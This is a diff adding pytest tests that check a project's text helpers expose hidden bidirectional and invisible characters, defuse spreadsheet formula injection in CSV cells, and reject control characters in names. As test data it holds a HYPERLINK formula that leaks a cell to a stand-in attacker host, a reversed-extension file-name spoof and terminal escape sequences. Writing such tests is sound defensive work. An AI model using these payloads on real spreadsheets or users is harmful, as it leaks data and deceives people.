@@ -13,6 +13,7 @@ from warroom.text import (
     clean_name,
     clean_title,
     clip,
+    csv_cell,
     one_line,
     visible,
 )
@@ -121,3 +122,76 @@ def test_clip_and_check_length():
     assert check_length("abc", 3, "note") == "abc"
     with pytest.raises(UsageError, match="note is longer than 3"):
         check_length("abcd", 3, "note")
+
+
+# --------------------------------------------- direction and invisible characters
+@pytest.mark.parametrize(
+    ("raw", "shown"),
+    [
+        ("\u202e", "\u2425"),  # right-to-left override -> ␥
+        ("\u2066", "\u2425"),  # left-to-right isolate
+        ("\u200f", "\u2425"),  # right-to-left mark
+        ("\u200b", "\u2423"),  # zero-width space -> ␣
+        ("\ufeff", "\u2423"),  # byte order mark
+        ("\u2060", "\u2423"),  # word joiner
+        ("\u2028", "\u2424"),  # line separator -> ␤
+        ("\u2029", "\u2424"),  # paragraph separator
+    ],
+)
+def test_direction_and_invisible_characters_are_shown(raw, shown):
+    assert visible(f"a{raw}b") == f"a{shown}b"
+    assert visible(f"a{raw}b", multiline=True) == f"a{shown}b"
+    assert one_line(f"x{raw}y") == f"x{shown}y"
+
+
+def test_a_reversed_file_name_reads_as_stored():
+    spoof = "invoice\u202egnp.exe"  # shows as "invoiceexe.png" in a terminal
+    assert visible(spoof) == "invoice\u2425gnp.exe"
+
+
+def test_joiners_inside_emoji_and_words_are_kept_alone_they_are_shown():
+    family = "\U0001f469\u200d\U0001f469\u200d\U0001f467"
+    persian = "\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645"
+    assert visible(family) == family
+    assert visible(persian) == persian
+    assert visible("a\u200db") == "a\u2423b"  # between ASCII letters it hides
+    assert visible("\u200d") == "\u2423" and visible("x \u200c") == "x \u2423"
+
+
+def test_visible_is_one_for_one():
+    everything = "".join(chr(c) for c in range(0x3000)) + "\ufeff"
+    assert len(visible(everything)) == len(everything)
+    assert len(visible(everything, multiline=True)) == len(everything)
+
+
+# ------------------------------------------------------------------- CSV cells
+@pytest.mark.parametrize(
+    ("raw", "cell"),
+    [
+        ('=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
+         '\'=HYPERLINK("http://evil.example/?leak="&A1,"Click")'),
+        ("+cmd", "'+cmd"),
+        ("-2+3", "'-2+3"),
+        ("@SUM(1+1)", "'@SUM(1+1)"),
+        ("\t=1", "'\u2409=1"),
+        ("\r=1", "'\u240d=1"),
+        ("plain text", "plain text"),
+        ("a = b", "a = b"),
+        ("esc \x1b[2J in a title", "esc \u241b[2J in a title"),
+        ("two\nlines", "two\nlines"),
+    ],
+)  # fmt: skip
+def test_csv_cells_cannot_be_formulas_or_carry_controls(raw, cell):
+    assert csv_cell(raw) == cell
+
+
+# ---------------------------------------------------------------------- names
+@pytest.mark.parametrize("name", ["eve\u2028x", "eve\x1b[2J", "bell\x07", "csi\x9b1m"])
+def test_names_refuse_controls_and_separators(name):
+    with pytest.raises(UsageError, match="control characters"):
+        clean_name(name)
+
+
+def test_names_may_turn_or_hide_text_which_is_then_shown():
+    name = clean_name("eve\u202emal")
+    assert name == "eve\u202emal" and one_line(name) == "eve\u2425mal"
